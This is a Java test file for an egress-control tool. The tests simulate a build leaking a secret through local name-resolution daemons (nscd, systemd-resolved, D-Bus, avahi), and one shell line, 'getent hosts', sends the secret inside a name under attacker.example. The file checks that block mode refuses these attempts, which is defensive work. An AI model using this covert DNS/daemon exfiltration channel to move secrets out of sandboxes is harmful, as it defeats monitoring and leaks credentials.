package dev.plumbline.egress;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.plumbline.testing.Cli;
import dev.plumbline.testing.RecordJson;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The exfiltration through a name-resolving daemon outside the traced tree, performed for real:
 * in a user, mount and network namespace this test makes ({@code unshare -Urmn}, so it runs
 * unprivileged as well as root), a tmpfs over /run, and a stand-in daemon (resolving_daemons.py,
 * not traced) listening on nscd's, systemd-resolved's varlink, the D-Bus system bus's and avahi's
 * real paths, writing down every byte it is sent. The agent runs in that namespace too, so these
 * are the host's sockets as it sees them. The build (resolving_client.py) sends
 * {@code SECRET.TAG.attacker.example} to each, under its own name, its /var/run name, a symlink and
 * /proc/self/root; glibc's getent asks nscd first.
 *
 * <p>On the code before the default list, block mode let every one of them through (the daemon
 * logged the secret; the record said {@code allowed}).
 */
@Tag("needs-ptrace")
class ResolvingDaemonsTest {
  static final ObjectMapper JSON = new ObjectMapper();
  static final List<String> SOCKETS = List.of("/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve",
      "/run/dbus/system_bus_socket", "/run/avahi-daemon/socket");
  static String python;

  @TempDir Path dir;
  final String secret = "s3cr3t" + UUID.randomUUID().toString().substring(0, 8);

  @BeforeAll
  static void findPython() throws Exception {
    // the interpreter itself, not a pyenv shim (a shell script) or a PATH lookup inside the namespace
    Process p = new ProcessBuilder("python3", "-c", "import sys; print(sys.executable)").redirectErrorStream(true).start();
    python = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip();
    assertEquals(0, p.waitFor(), python);
  }

  record Run(String secret, int code, List<String> out, List<String> received, JsonNode record, String err) {
    String line(String tag) {
      return out.stream().filter(l -> l.startsWith(tag + " ")).findFirst().orElse(tag + " (no line)");
    }

    /**
     * What the daemon at {@code path} was sent with the secret, one string per connection (the
     * agent's JVM, outside the tree, asks nscd for its user too).
     */
    List<String> at(String path) {
      return secrets().stream().filter(l -> l.startsWith(path + "\t")).toList();
    }

    List<String> secrets() {
      return received.stream().filter(l -> l.contains(secret)).toList();
    }

    List<JsonNode> network(String address) {
      return RecordJson.network(record, address);
    }

    List<String> notes(String kind) {
      return RecordJson.notes(record, kind);
    }

    List<String> dnsNames() {
      List<String> all = new ArrayList<>();
      record.path("dns").forEach(d -> all.add(d.path("name").asText()));
      return all;
    }

    String show() {
      return "exit " + code + "\nout: " + out + "\nreceived: " + received + "\nnetwork: " + record.path("network")
          + "\nnotes: " + record.path("notes") + "\nstderr: " + err;
    }
  }

  String resource(String name) throws Exception {
    Path p = dir.resolve(name);
    try (InputStream in = getClass().getResourceAsStream("/egress/" + name)) {
      Files.write(p, in.readAllBytes());
    }
    return p.toString();
  }

  /** plumbline run OPTIONS -- sh -c BUILD, agent and daemons in a namespace of their own. */
  Run run(List<String> options, String build) throws Exception {
    return run("-Urmn", options, build);
  }

  /** {@code unshare}: -Urmn (any user) or, as root, -mn (every uid mapped, as sudo needs). */
  Run run(String unshare, List<String> options, String build) throws Exception {
    Path log = dir.resolve("received.txt");
    Path ready = dir.resolve("ready");
    Path out = dir.resolve("out.txt");
    Path record = dir.resolve("record.json");
    for (Path p : List.of(log, ready, out, record)) {
      Files.deleteIfExists(p);
    }
    Files.writeString(log, "");
    Path wrapper = dir.resolve("namespace.sh");
    Files.writeString(wrapper, String.join("\n",
        "set -e",
        "mount -t tmpfs tmpfs /run",
        "ip link set lo up",
        "'" + python + "' '" + resource("resolving_daemons.py") + "' '" + log + "' '" + ready + "' " + String.join(" ", SOCKETS) + " &",
        "daemons=$!",
        "while [ ! -e '" + ready + "' ]; do sleep 0.05; done",
        "set +e",
        "\"$@\"",
        "rc=$?",
        "kill $daemons",
        "exit $rc", ""));
    List<String> args = new ArrayList<>(List.of("run", "--record", record.toString()));
    args.addAll(options);
    args.addAll(List.of("--", "/bin/sh", "-c", "{ " + build + "; } > " + out + " 2>&1"));
    Cli.Result r = Cli.process(dir, List.of("unshare", unshare, "/bin/sh", wrapper.toString()), Map.of(),
        args.toArray(String[]::new));
    return new Run(secret, r.code(), Files.exists(out) ? Files.readAllLines(out) : List.of(), Files.readAllLines(log),
        Files.exists(record) ? JSON.readTree(record.toFile()) : JSON.createObjectNode(), r.out() + r.err());
  }

  /** Every socket under its own name and its /var/run name, the bus also through a symlink and /proc/self/root. */
  String client() throws Exception {
    Files.createSymbolicLink(dir.resolve("bus"), Path.of("/run/dbus/system_bus_socket"));
    return "'" + python + "' '" + resource("resolving_client.py") + "' " + secret
        + " nscd=/run/nscd/socket nscd-var=/var/run/nscd/socket varlink=/run/systemd/resolve/io.systemd.Resolve"
        + " dbus=/run/dbus/system_bus_socket dbus-var=/var/run/dbus/system_bus_socket dbus-link=" + dir.resolve("bus")
        + " dbus-proc=/proc/self/root/run/dbus/system_bus_socket avahi=/run/avahi-daemon/socket";
  }

  void assertBlocked(Run r, String tag, String address, String daemon) {
    assertEquals(tag + " err=13", r.line(tag), "refused with EACCES\n" + r.show());
    List<JsonNode> seen = r.network(address);
    assertFalse(seen.isEmpty(), "the attempt to " + address + " is recorded\n" + r.show());
    for (JsonNode n : seen) {
      assertEquals("blocked", n.path("decision").asText(), n.toString());
    }
    assertTrue(r.notes("unix-denied").stream().anyMatch(n -> n.contains(address) && n.contains(daemon)),
        "a note names " + address + " and " + daemon + "\n" + r.show());
  }

  @Test
  void blockModeRefusesTheDaemonsUnderEveryNameAndGlibcFallsBackToTheCapturedDns() throws Exception {
    Run r = run(List.of("--egress", "block"), client() + "; getent hosts glibc-" + secret + ".attacker.example; echo getent=$?");
    assertEquals(0, r.code, r.show());
    assertEquals(List.of(), r.secrets(), "no daemon was sent the secret\n" + r.show());
    assertBlocked(r, "nscd", "/run/nscd/socket", "nscd");
    assertBlocked(r, "nscd-var", "/var/run/nscd/socket", "nscd");
    assertBlocked(r, "varlink", "/run/systemd/resolve/io.systemd.Resolve", "systemd-resolved");
    assertBlocked(r, "dbus", "/run/dbus/system_bus_socket", "D-Bus system bus");
    assertBlocked(r, "dbus-var", "/var/run/dbus/system_bus_socket", "D-Bus system bus");
    assertBlocked(r, "dbus-link", dir.resolve("bus").toString(), "D-Bus system bus");
    assertBlocked(r, "dbus-proc", "/proc/self/root/run/dbus/system_bus_socket", "D-Bus system bus");
    assertBlocked(r, "avahi", "/run/avahi-daemon/socket", "avahi");
    assertTrue(r.notes("unix-denied").stream().anyMatch(n -> n.contains("--allow-unix")), "the note says how to lift it\n" + r.show());
    // glibc, refused by nscd, resolves itself: the question reaches the agent's resolver (and block
    // mode answers NXDOMAIN for a name no rule allows: getent exits 2, "not found")
    assertTrue(r.dnsNames().contains("glibc-" + secret + ".attacker.example"), "glibc fell back to DNS\n" + r.show());
    assertEquals("getent=2", r.out.get(r.out.size() - 1), r.show());
  }

  @Test
  void allowUnixLetsTheBuildUseTheNamedDaemonsOnly() throws Exception {
    Run r = run(List.of("--egress", "block", "--allow-unix", "/var/run/nscd/socket", "--allow-unix", "/run/dbus/system_bus_socket"), client());
    assertEquals(0, r.code, r.show());
    for (String tag : List.of("nscd", "nscd-var", "dbus", "dbus-var", "dbus-link", "dbus-proc")) {
      assertEquals(tag + " ok", r.line(tag), r.show());
    }
    assertEquals(2, r.at("/run/nscd/socket").size(), r.show());
    assertEquals(4, r.at("/run/dbus/system_bus_socket").size(), r.show());
    assertTrue(r.at("/run/nscd/socket").stream().allMatch(l -> l.contains(secret)), "the daemon got what was sent\n" + r.show());
    for (String a : List.of("/run/nscd/socket", "/var/run/nscd/socket", "/run/dbus/system_bus_socket")) {
      assertFalse(r.network(a).isEmpty(), r.show());
      r.network(a).forEach(n -> assertEquals("allowed", n.path("decision").asText(), n.toString()));
    }
    assertBlocked(r, "varlink", "/run/systemd/resolve/io.systemd.Resolve", "systemd-resolved");
    assertBlocked(r, "avahi", "/run/avahi-daemon/socket", "avahi");
    assertEquals(List.of(), r.at("/run/systemd/resolve/io.systemd.Resolve"), r.show());
  }

  @Test
  void auditModeLetsThemThroughAndMarksThemWouldBlock() throws Exception {
    Run r = run(List.of("--egress", "audit", "--allow", "example.org:443"), client());
    assertEquals(0, r.code, r.show());
    assertEquals(8, r.secrets().size(), "every connection reached its daemon\n" + r.show());
    for (String a : List.of("/run/nscd/socket", "/var/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve",
        "/run/dbus/system_bus_socket", "/var/run/dbus/system_bus_socket", "/run/avahi-daemon/socket")) {
      assertFalse(r.network(a).isEmpty(), r.show());
      for (JsonNode n : r.network(a)) {
        assertEquals("audited", n.path("decision").asText(), n.toString());
        assertTrue(n.path("wouldBlock").asBoolean(false), "switching to block would refuse it: " + n);
      }
    }
  }

  /**
   * sudo inside a block-mode build with nscd and a system bus present: {@code sudo} (no
   * pam_systemd on Ubuntu) and {@code sudo -i} (common-session's optional pam_systemd) both still
   * run the command, their user lookups refused by nscd. Root only: a user namespace maps one uid, and sudo
   * switches to others, so the namespace here is a mount and network one of the real root.
   */
  @Test
  @Tag("needs-root")
  void sudoStillWorksInBlockModeWithTheBusRefused() throws Exception {
    assertEquals("0", new String(new ProcessBuilder("id", "-u").start().getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip(),
        "needs root (sudo needs every uid: no user namespace)");
    Run r = run("-mn", List.of("--egress", "block"), "sudo -n true; echo sudo=$?; sudo -n -i true; echo sudo-i=$?");
    assertEquals(0, r.code, r.show());
    assertTrue(r.out.contains("sudo=0") && r.out.contains("sudo-i=0"), r.show());
    // their user and group lookups asked nscd first, were refused, and fell back to /etc/passwd
    assertFalse(r.network("/var/run/nscd/socket").isEmpty(), r.show());
    r.network("/var/run/nscd/socket").forEach(n -> assertEquals("blocked", n.path("decision").asText(), n.toString()));
    r.network("/run/dbus/system_bus_socket").forEach(n -> assertEquals("blocked", n.path("decision").asText(), n.toString()));
  }

  @Test
  void allowUnixOfASocketNotOnTheListIsAMistakeSaidInOneLine() throws Exception {
    Cli.Result r = Cli.run("run", "--egress", "block", "--allow-unix", "/var/run/docker.sock", "--", "true");
    assertEquals(125, r.code(), r.err());
    assertTrue(r.err().contains("--allow-unix /var/run/docker.sock is not a socket block mode refuses by default"), r.err());
    r.assertNoStackTrace();
  }
}
